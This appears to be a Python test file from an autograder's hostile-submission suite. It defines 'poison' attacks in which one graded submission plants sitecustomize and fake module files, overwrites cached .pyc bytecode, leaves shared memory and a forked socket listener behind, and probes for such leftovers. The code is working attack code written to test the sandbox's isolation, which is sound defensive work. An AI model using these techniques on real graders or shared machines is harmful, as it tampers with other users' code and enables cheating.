"""Attacks on whoever is graded next: what one submission leaves behind, and a submission that looks
for it.
"""

from __future__ import annotations

from tests.hostile.attack import Attack
from tests.hostile.student_code import spying

FAMILY = "poison"

SHARED = """\
import ctypes, glob, os
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
KEY = 0x64676D
FOLDERS = ("/tmp", "/var/tmp", "/dev/shm", "/dev/mqueue", "/run", os.getcwd(), os.path.expanduser("~"))
FOLDERS += ("/course", "/course/dgm", "/grader", COURSE)
ADDRESSES = ((1, "\\0" + MARK), (1, "/tmp/" + MARK + ".sock"), (2, ("127.0.0.1", 47113)))  # AF_UNIX, AF_INET
"""


def _shared(code: str):  # type: ignore[no-untyped-def]
    from textwrap import dedent

    return spying(SHARED + dedent(code))


ATTACKS = [
    Attack(
        "leaves_files",
        FAMILY,
        "modules and start-up files that the next Python finds: sitecustomize, .pyc, .ipython, conftest",
        _shared("""
            import importlib.util, marshal, sys
            poison = "import torch; torch.exp = lambda *a, **k: 1 / 0\\n"
            names = ("sitecustomize.py", "usercustomize.py", "numpy.py", "conftest.py", "torch.py", MARK + ".py", "matplotlibrc")
            for folder in (*FOLDERS, *sys.path):
                for name in names:
                    try:
                        with open(os.path.join(folder, name), "x") as file:
                            file.write(poison)
                    except OSError:
                        pass
            for module in list(sys.modules.values()):
                cached = getattr(module, "__cached__", None)
                if isinstance(cached, str) and ("dgm" in cached or "autograder" in cached):
                    try:
                        with open(cached, "wb") as file:
                            file.write(importlib.util.MAGIC_NUMBER + bytes(12) + marshal.dumps(compile(poison, "x", "exec")))
                        won("a cached module: " + cached)
                    except OSError:
                        pass
        """),
        nbgrader=True,
    ),
    Attack(
        "leaves_shared_memory",
        FAMILY,
        "segments, queues and semaphores that outlive every process",
        _shared("""
            segment = libc.shmget(KEY, 4096, 0o1666)
            if segment >= 0:
                address = libc.shmat(segment, None, 0)
                ctypes.memmove(address, b"poison", 6)
            libc.msgget(KEY, 0o1666)
            libc.semget(KEY, 1, 0o1666)
            from multiprocessing import shared_memory, resource_tracker
            block = shared_memory.SharedMemory(MARK + "_block", create=True, size=64)
            block.buf[:6] = b"poison"
            resource_tracker.unregister(block._name, "shared_memory")
        """),
    ),
    Attack(
        "leaves_a_listener",
        FAMILY,
        "a process that waits on sockets for the next submission, with answers to give",
        _shared("""
            import socket, time
            if os.fork() == 0:
                os.setsid()
                kept = []
                for family, address in ADDRESSES:
                    try:
                        listener = socket.socket(family)
                        listener.bind(address)
                        listener.listen()
                        kept.append(listener)
                    except OSError:
                        pass
                time.sleep(600)
                os._exit(0)
        """),
    ),
    Attack(
        "patches_what_the_fork_shares",
        FAMILY,
        "pages that workers share with the zygote: libraries changed in memory, tensors of the course overwritten",
        _shared("""
            import torch, mmap
            import dgm.nets
            torch.manual_seed(0)
            exp, torch.exp = torch.exp, lambda *args, **kwargs: 1 / 0
            torch.exp = exp
            for line in open("/proc/self/maps") if os.path.exists("/proc/self/maps") else []:
                if "rw-s" in line:
                    low, high = (int(value, 16) for value in line.split()[0].split("-"))
                    won("memory shared with others: " + line.split()[-1])
        """),
    ),
    Attack(
        "looks_for_a_legacy",
        FAMILY,
        "answers that an accomplice, graded before, left somewhere",
        _shared("""
            import socket, time
            for folder in FOLDERS:
                for path in glob.glob(folder + "/" + MARK + "*") + glob.glob(folder + "/sitecustomize.py"):
                    if "_loot_" + NAME not in path:
                        won("a file: " + path)
            calls = {"segment": lambda: libc.shmget(KEY, 4096, 0), "queue": lambda: libc.msgget(KEY, 0)}
            for name, get in calls.items():
                if get() >= 0:
                    won("a " + name)
            for family, address in ADDRESSES:
                try:
                    with socket.socket(family) as connection:
                        connection.settimeout(0.3)
                        connection.connect(address)
                        won(f"a listener at {address!r}")
                except OSError:
                    pass
            others = [pid for pid in os.listdir("/proc") if pid.isdigit() and int(pid) not in (1, os.getpid(), os.getppid())]
            for pid in others:
                try:
                    if b"sleep" in open(f"/proc/{pid}/cmdline", "rb").read():
                        won("a process that was left")
                except OSError:
                    pass
        """),
    ),
    Attack(
        "looks_for_a_legacy_again",
        FAMILY,
        "the same once more, later in the class",
        _shared("""
            for folder in FOLDERS:
                for path in glob.glob(folder + "/*" + MARK + "*"):
                    if "_loot_" + NAME not in path:
                        won("a file: " + path)
            if libc.shmget(KEY, 4096, 0) >= 0:
                won("a segment")
            libc.syscall(250, 10, ctypes.c_long(-4), b"user", (MARK + "_key").encode(), 0)
        """),
    ),
]
